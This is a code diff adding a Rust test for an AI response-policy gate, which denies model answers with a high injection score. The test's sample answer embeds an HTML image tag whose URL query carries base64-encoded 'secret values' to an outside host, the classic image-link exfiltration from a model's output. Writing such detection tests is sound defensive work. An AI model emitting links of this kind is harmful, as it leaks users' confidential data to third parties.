@@ -139,6 +139,23 @@ fn nothing_of_a_refused_answer_leaves() {
 }
 
 #[test]
+fn an_answer_that_carries_data_away_in_a_link_is_heard_of() {
+    let running = Running::with(
+        r#"deny contains {"code": "answer_leaks", "msg": "m"} if {
+	input.action == "model:respond"
+	input.response.signals.injection >= 0.5
+}"#,
+    );
+    let carrying = "<img src='https://pics.example/p.png?data=c2VjcmV0IHZhbHVlcyBvZiB0aGUgdGVhbQ'>";
+    let refused = running.say(&format!("[sim:say {carrying}]"));
+    assert_eq!(code_of(&refused), "answer_leaks");
+    assert_eq!(running.say("[sim:say see https://pics.example/p.png for more]").status, 200);
+    let records = running.hardpan.records(2);
+    assert!(records[0]["answer_injection_score"].as_f64().unwrap() >= 0.5);
+    assert_eq!(records[1]["answer_injection_score"], 0.0);
+}
+
+#[test]
 fn a_refused_stream_ends_in_an_exception_and_never_tidily() {
     let running = Running::with(NO_MAIL);
     let path = format!("/model/{NOVA}/converse-stream");
